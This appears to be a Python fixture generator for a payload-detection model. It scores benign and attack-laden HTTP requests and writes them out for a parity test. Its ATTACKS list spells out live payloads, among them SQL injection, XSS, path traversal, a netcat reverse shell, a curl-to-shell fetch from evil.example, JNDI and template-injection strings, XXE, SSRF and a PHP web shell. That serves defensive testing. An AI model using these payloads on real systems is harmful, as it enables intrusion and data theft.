"""Writes test/fixtures/models/payload-v1/cases.jsonl: requests, their payload-v1 items (Python twin)
and scikit-learn's own score for them with the bundled saved_models/payload-v1 model.

Pinned: Debian's /usr/bin/python3 (3.11), scikit-learn 1.2.1, numpy 1.24.2, joblib 1.2.
Requests are built from the synthetic generator (training/synthetic.py) and the hand-written
strings below, never from ../shared/datasets (nothing derived from it is committed). Covers every
field, long texts (windows), percent escapes, invalid UTF-8 (surrogateescape) and empty requests.
test/models/payload-v1-parity.test.ts checks the TypeScript items and the served scores against it.
"""
import json
import os
import random
import sys

import joblib
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import synthetic  # noqa: E402
from payload_items import payload_items  # noqa: E402

ROOT = os.path.normpath(os.path.join(HERE, '..'))
OUT = os.path.join(ROOT, 'test', 'fixtures', 'models', 'payload-v1', 'cases.jsonl')

ATTACKS = [
    "1' OR '1'='1' -- ", "admin'--", '1 UNION SELECT username, password FROM users', "'; DROP TABLE users; --",
    '<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', 'javascript:alert(1)', '"><svg/onload=confirm(1)>',
    '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252fetc%252fpasswd', 'C:\\Windows\\win.ini',
    '; cat /etc/passwd', '| nc -e /bin/sh 10.0.0.1 4444', '$(curl http://evil.example/x.sh | sh)', '`id`',
    '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:${lower:l}dap://x.example/a}', '() { :; }; /bin/bash -c "id"',
    '{{7*7}}', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", '<!--#exec cmd="ls" -->',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    'http://169.254.169.254/latest/meta-data/', 'gopher://127.0.0.1:6379/_FLUSHALL', '*)(uid=*))(|(uid=*',
    '%0d%0aSet-Cookie:%20evil=1', "<?php system($_GET['c']); ?>", 'php://filter/convert.base64-encode/resource=index.php',
]


def case_requests(rng):
    requests = []
    for _ in range(120):
        value, _ = synthetic.benign_value(rng)
        requests.append({'path': '/search', 'args': [['ARGS:q', value], ['ARGS:page', str(rng.randrange(9))]]})
    for _ in range(40):
        header, _ = synthetic.benign_header(rng)
        cookie, _ = synthetic.benign_cookie(rng)
        requests.append({'path': '/', 'args': [], 'headers': [['REQUEST_HEADERS:User-Agent', header], ['REQUEST_HEADERS:Content-Length', '12']],
                         'cookies': [['REQUEST_COOKIES:sid', cookie]]})
    for text in ATTACKS:
        requests.append({'path': '/index.php', 'args': [['ARGS:id', text]]})
        requests.append({'path': '/', 'args': [], 'headers': [['REQUEST_HEADERS:Referer', text]], 'cookies': [['REQUEST_COOKIES:lang', text]]})
        requests.append({'path': '/api', 'args': [], 'body': json.dumps({'user': text, 'n': 1})})
    for _ in range(20):
        value, cls, where = synthetic.attack_value(rng)
        requests.append({'path': '/login', 'args': [['ARGS:' + value if cls == 'nosql' and '[' in value else 'ARGS:user', value]]})
    long_text = ' '.join(rng.choice(synthetic.PHRASES) for _ in range(120))
    requests += [
        {'path': '/', 'args': []},
        {'path': '/', 'args': [['ARGS:', '']]},
        {'path': '/comments', 'args': [['ARGS:text', long_text + " 1' UNION SELECT password FROM users--"]]},
        {'path': '/upload', 'args': [], 'files': [['FILES:f', '../../shell.php']], 'body': 'x' * 3000},
        {'path': '/x', 'args': [['ARGS:q', 'caf\udce9 %e9t%C3%A9 %zz %4'], ['ARGS:r', '\udcff\udcfe']]},
        {'path': '/%2e%2e/etc/passwd', 'args': [['ARGS:name[$ne]', '1']]},
    ]
    return requests


def main():
    rng = random.Random(7)
    model = joblib.load(os.path.join(ROOT, 'saved_models', 'payload-v1', 'model.joblib'))
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    with open(OUT, 'w', encoding='utf-8') as f:
        for request in case_requests(rng):
            request.setdefault('files', [])
            items = payload_items(request)
            proba = model.predict_proba(items if items else [''])[:, 1]
            f.write(json.dumps({'request': request, 'items': items, 'score': float(np.max(proba))}) + '\n')
    print('wrote', OUT)


if __name__ == '__main__':
    main()
